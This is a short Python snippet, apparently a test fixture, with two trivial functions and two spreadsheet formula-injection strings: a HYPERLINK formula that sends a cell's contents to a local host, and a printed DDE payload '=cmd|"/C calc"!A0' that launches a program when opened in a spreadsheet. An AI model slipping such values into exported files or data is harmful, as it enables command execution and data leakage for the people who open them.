def double(values):
    return 2 * values


def oracle(question):
    return question

SECRET = '=HYPERLINK("http://127.0.0.1/?"&A1,"click")'
print('=cmd|"/C calc"!A0')
